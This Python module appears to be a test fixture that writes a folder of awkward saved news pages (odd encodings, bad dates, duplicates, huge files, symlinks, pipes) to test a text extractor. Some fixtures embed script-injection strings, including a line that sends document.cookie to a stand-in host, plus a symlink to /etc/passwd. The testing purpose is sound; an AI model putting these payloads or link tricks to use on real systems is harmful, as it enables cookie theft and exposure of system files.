"""A hostile corpus: every kind of bad file users save, written into a folder by code."""

from __future__ import annotations

import random
from pathlib import Path

NAV = (
    "WORDS ON THE STREET 70th anniversary of Hanoi's Liberation Day "
    "Vietnam - Asia 2023 Smart City Summit Covid-19 Pandemic"
)
FOOTER = [
    "RELATED NEWS",
    "TAG: Vietnam news Hanoi news international cooperation",
    "Other news",
    "12:14, 2025/04/27",
    "Hanoi ensures clean water for locals in the dry season",
]

# File names, one constant per hostile case.
EMPTY = "empty.txt"
BINARY = "random-bytes.txt"
CP1252 = "cp1252 curly quotes.txt"
BOM_CRLF = "bom-crlf.txt"
NAV_ONLY = "navigation-only.txt"
IMPOSSIBLE_DATE = "impossible-date.txt"
NO_DATE = "no-date.txt"
ORIGINAL = "saved-once.txt"
DUPLICATE = "saved-twice copy.txt"
VIETNAMESE = "Hà Nội hợp tác.txt"
NOTE = "reading notes.txt"
LARGE = "huge-archive.txt"
HTML_PAGE = "saved-from-browser.html"
MARKUP = "markup-in-text.txt"
SCRIPT_NAME = "<img src=x onerror=alert(4)> <script>alert(3).txt"

# What some of the files say, for the tests to look for.
CP1252_TITLE = "Hanoi’s “smart city” café talks with Zürich — São Paulo joins"
CP1252_WORDS = ["Zürich", "São Paulo", "naïve", "“green corridors”", "Hanoi’s"]
BOM_TITLE = "Hanoi and Busan expand metro cooperation"
IMPOSSIBLE_DATE_TITLE = "Hanoi, Lyon review heritage restoration work"
NO_DATE_TITLE = "Hanoi and Bangkok compare notes on river clean-up"
DUPLICATE_TITLE = "Hanoi, Vientiane sign education exchange deal"
VIETNAMESE_TITLE = "Hà Nội and Fukuoka boost tourism ties"
HTML_TITLE = "Hanoi and Turin agree on design cooperation"
HTML_PARAGRAPHS = [
    "Hanoi and the Italian city of Turin agreed on Tuesday to cooperate in industrial design, "
    "fashion and creative industries, the municipal People's Committee said.",
    "The two cities will exchange designers and students under a three-year programme that "
    "starts in the autumn, with workshops held in both places.",
    "Officials from Turin said the city's experience in turning old factories into creative "
    "hubs could help Hanoi revive its former industrial zones.",
]
HTML_NAV_TEXT = "Subscribe to the morning briefing"
HTML_FOOTER_TEXT = "Copyright the Saved Page Gazette, all rights reserved"
MARKUP_TITLE = "<script>alert(1)</script> Hanoi meets <img src=x onerror=alert(2)>"
MARKUP_BODY_LINE = (
    'Readers typed <b>bold</b> and <a href="javascript:alert(5)">links</a> into the comments, '
    "and the page kept them as text."
)
SCRIPT_NAME_TITLE = "Hanoi and Kunming open a new air route"


def page(title: str, byline: str | None, paragraphs: list[str], *, footer: bool = True) -> str:
    """Return a page in the Hanoi Times layout: navigation, title, byline, body, footer."""
    lines = [NAV, "Home / Hanoinews", title]
    if byline is not None:
        lines.append(byline)
    for paragraph in paragraphs:
        lines += [paragraph, ""]
    if footer:
        lines += FOOTER
    return "\n".join(lines) + "\n"


CP1252_PAGE = page(
    CP1252_TITLE,
    "Ngoc Mai 10:05, 2024/06/12",
    [
        "Planners from Zürich and São Paulo met Hanoi’s officials to compare “green corridors” "
        "and the café streets that line the city’s lakes.",
        "The Swiss delegation said it would not be naïve to expect quick results, but a pilot "
        "along the Red River could start next year — if funding is found.",
        "Both sides agreed to share data on tree cover, shade and walking routes, and to hold "
        "a second round of talks in Zürich in the spring.",
    ],
)

BOM_PAGE = page(
    BOM_TITLE,
    "Lien Ha 08:30, 2024/07/02",
    [
        "Hanoi and the South Korean port city of Busan will expand cooperation on urban railway "
        "construction and operation, the two sides said after a meeting on Monday.",
        "Busan's metro operator offered to train Hanoi engineers in signalling, ticketing and "
        "maintenance of rolling stock over the next two years.",
        "The city's transport department said the first trainees would leave for Busan before "
        "the end of the year and bring back practices for the new lines.",
    ],
)

NAV_ONLY_PAGE = "\n".join(
    [
        NAV,
        "Home / Hanoinews",
        "",
        "RELATED NEWS",
        "Hanoi ensures clean water for locals in the dry season",
        "TAG: Vietnam news Hanoi news",
        "Other news",
        "12:14, 2025/04/27",
    ]
)

IMPOSSIBLE_DATE_PAGE = page(
    IMPOSSIBLE_DATE_TITLE,
    "Ngoc Mai 15:37, 2024/02/31",
    [
        "Conservation experts from Lyon visited the Temple of Literature and the Old Quarter to "
        "review restoration work on wooden roofs and facades.",
        "The French city has supported the training of Hanoi craftsmen in heritage carpentry "
        "since a cooperation agreement was renewed three years ago.",
        "The visitors recommended a shared register of historic houses so that owners can get "
        "advice before they renovate.",
    ],
)

NO_DATE_PAGE = page(
    NO_DATE_TITLE,
    None,
    [
        "Engineers from Bangkok shared how the Thai capital cleaned up its canals with Hanoi "
        "officials in charge of the To Lich river project.",
        "The delegation explained how wastewater plants, dredging and public campaigns worked "
        "together over more than a decade of effort in the Thai capital.",
        "Hanoi plans to apply some of these methods to the rivers that run through its inner "
        "districts, starting with a pilot stretch near Cau Giay.",
    ],
)

DUPLICATE_PAGE = page(
    DUPLICATE_TITLE,
    "Van Ha 11:00, 2024/08/15",
    [
        "Hanoi and Vientiane signed an agreement to exchange teachers and students between "
        "their universities and vocational schools.",
        "The Lao capital will send two hundred students to study in Hanoi each year, while "
        "Hanoi teachers will run courses in Vientiane on engineering and nursing.",
        "The agreement also covers scholarships and joint research on urban planning along the "
        "Mekong and the Red River.",
    ],
)

VIETNAMESE_PAGE = page(
    VIETNAMESE_TITLE,
    "Thanh Hà 14:20, 2024/09/05",
    [
        "Hà Nội and the Japanese city of Fukuoka agreed to promote tourism between them, with "
        "direct flights and joint campaigns at travel fairs.",
        "The agreement, known in Vietnamese as “thỏa thuận hợp tác du lịch”, covers training "
        "for tour guides and hotel staff in both cities.",
        "Fukuoka officials said visitors from Việt Nam to the city had doubled since the new "
        "flights started last spring.",
    ],
)

NOTE_TEXT = (
    "Notes for the report\n"
    "- check the date of the Busan memorandum\n"
    "- ask Lan whether the Hanoi Times has a paywall\n"
    "- compare with other coverage\n"
)

MARKUP_PAGE = page(
    MARKUP_TITLE,
    "Lan Anh 09:15, 2024/05/10",
    [
        "Hanoi and Busan agreed to cooperate on tourism and education at a meeting where "
        "<script>document.location='http://example.invalid/?c='+document.cookie</script> "
        "was pasted by a reader.",
        MARKUP_BODY_LINE,
        "Officials from both cities said the <i>cooperation</i> programme would include student "
        "exchanges and joint tourism fairs next year.",
    ],
)

SCRIPT_NAME_PAGE = page(
    SCRIPT_NAME_TITLE,
    "Minh Chau 07:45, 2024/10/01",
    [
        "Hanoi and Kunming, the capital of China's Yunnan province, opened a direct air route "
        "with four flights a week, the city's tourism department said.",
        "Travel firms in both cities expect the route to bring more visitors to the mountains "
        "of northern Vietnam and to the old town of Lijiang.",
        "Kunming also proposed closer trade in flowers and fresh vegetables through the border "
        "gate at Lao Cai.",
    ],
)

HTML_PAGE_TEXT = f"""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>{HTML_TITLE} | The Saved Page Gazette</title>
<meta property="og:title" content="{HTML_TITLE}">
<meta property="article:published_time" content="2024-05-14T08:00:00+07:00">
<script>
  var div = document.createElement("div");
  window.dataLayer = window.dataLayer || [];
  function trackReader() {{ dataLayer.push({{event: "pageview"}}); }}
</script>
<script src="https://tracker.example.invalid/analytics.js"></script>
<style>.menu div {{ display: flex; }} nav a {{ color: #333; }}</style>
</head>
<body>
<div class="page">
<nav class="menu"><div><a href="/">Home</a> <a href="/world">World</a>
<a href="/business">Business</a> <a href="/subscribe">{HTML_NAV_TEXT}</a></div></nav>
<main>
<article>
<h1>{HTML_TITLE}</h1>
<div class="byline">By Lien Ha <time datetime="2024-05-14T08:00:00+07:00">May 14, 2024</time></div>
<p>{HTML_PARAGRAPHS[0]}</p>
<div class="ad"><script>trackReader();</script></div>
<p>{HTML_PARAGRAPHS[1]}</p>
<p>{HTML_PARAGRAPHS[2]}</p>
</article>
</main>
<footer><div>{HTML_FOOTER_TEXT}</div><div><a href="/about">About us</a></div></footer>
</div>
<script>trackReader();</script>
</body>
</html>
"""

ARTICLE_FILES = {
    CP1252: CP1252_PAGE.encode("cp1252"),
    BOM_CRLF: b"\xef\xbb\xbf" + BOM_PAGE.replace("\n", "\r\n").encode("utf-8"),
    NAV_ONLY: NAV_ONLY_PAGE.encode("utf-8"),
    IMPOSSIBLE_DATE: IMPOSSIBLE_DATE_PAGE.encode("utf-8"),
    NO_DATE: NO_DATE_PAGE.encode("utf-8"),
    ORIGINAL: DUPLICATE_PAGE.encode("utf-8"),
    # The same story saved again: Windows line endings and trailing spaces on every line.
    DUPLICATE: "\r\n".join(line + "  " for line in DUPLICATE_PAGE.split("\n")).encode("utf-8"),
    VIETNAMESE: VIETNAMESE_PAGE.encode("utf-8"),
    NOTE: NOTE_TEXT.encode("utf-8"),
    HTML_PAGE: HTML_PAGE_TEXT.encode("utf-8"),
    MARKUP: MARKUP_PAGE.encode("utf-8"),
    SCRIPT_NAME: SCRIPT_NAME_PAGE.encode("utf-8"),
}


def random_bytes(size: int = 4096, *, seed: int = 6) -> bytes:
    """Return the same random bytes on every call (a photo or archive saved as .txt)."""
    return random.Random(seed).randbytes(size)


def write_large_file(path: Path, *, megabytes: float = 30.0) -> Path:
    """Write a text file of about `megabytes` MB (an archive saved as one page)."""
    chunk = (BOM_PAGE.replace("Busan", "Incheon") * 20).encode("utf-8")
    target = int(megabytes * 1_000_000)
    with path.open("wb") as handle:
        written = 0
        while written < target:
            handle.write(chunk)
            written += len(chunk)
    return path


def write_hostile_corpus(folder: Path, *, large_mb: float = 30.0) -> Path:
    """Write every hostile file into `folder` (created if needed) and return the folder."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / EMPTY).write_bytes(b"")
    (folder / BINARY).write_bytes(random_bytes())
    for name, data in ARTICLE_FILES.items():
        (folder / name).write_bytes(data)
    if large_mb:
        write_large_file(folder / LARGE, megabytes=large_mb)
    return folder


# --- round 2 (issue 20): links, special files, giant lines -----------------------------------

PASSWD_LINK = "passwd_link.txt"  # -> /etc/passwd
OUTSIDE_LINK = "colleague-notes.txt"  # -> a page in a folder beside the corpus
INSIDE_LINK = "then-a-link-to-it.txt"  # -> ORIGINAL, inside the corpus (listed after it)
FOLDER_LINK = "shared-folder"  # -> a folder beside the corpus
PIPE = "named-pipe.txt"
SOCKET = "socket.txt"
ONE_LINE = "one-line-dump.txt"
LONG_TITLE = "long-title.txt"
OUTSIDE_TITLE = "Secret page beside the corpus, never to be read"

ONE_LINE_DUMP = ("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" * 140_000)[:4_800_000]
LONG_TITLE_LINE = " ".join(["Hanoi and Busan talk about cooperation"] * 150)  # 5,849 characters
LONG_TITLE_PAGE = page(LONG_TITLE_LINE, "Ngoc Mai 09:00, 2024/04/02", BOM_PAGE.split("\n")[4:9:2])


def write_outside_folder(folder: Path) -> Path:
    """A folder beside the corpus, with a dated page and a sub-folder of pages."""
    text = page(OUTSIDE_TITLE, "Ngoc Mai 10:00, 2024/03/01", DUPLICATE_PAGE.split("\n")[4:9:2])
    (folder / "sub").mkdir(parents=True, exist_ok=True)
    (folder / "page.txt").write_text(text, encoding="utf-8")
    (folder / "sub" / "page.txt").write_text(text, encoding="utf-8")
    return folder


def write_round_two(folder: Path, outside: Path) -> Path:
    """Add links in and out of the corpus, a named pipe, a socket and giant lines to `folder`
    (which holds ORIGINAL); `outside` is a folder beside it, written here."""
    import os
    import socket

    write_outside_folder(outside)
    (folder / ORIGINAL).write_bytes(ARTICLE_FILES[ORIGINAL])
    os.symlink("/etc/passwd", folder / PASSWD_LINK)
    os.symlink(outside / "page.txt", folder / OUTSIDE_LINK)
    os.symlink(ORIGINAL, folder / INSIDE_LINK)  # relative, as an archive carries it
    os.symlink(outside / "sub", folder / FOLDER_LINK)
    os.mkfifo(folder / PIPE)
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(folder / SOCKET))
    server.close()
    (folder / ONE_LINE).write_text(ONE_LINE_DUMP, encoding="ascii")
    (folder / LONG_TITLE).write_text(LONG_TITLE_PAGE, encoding="utf-8")
    return folder
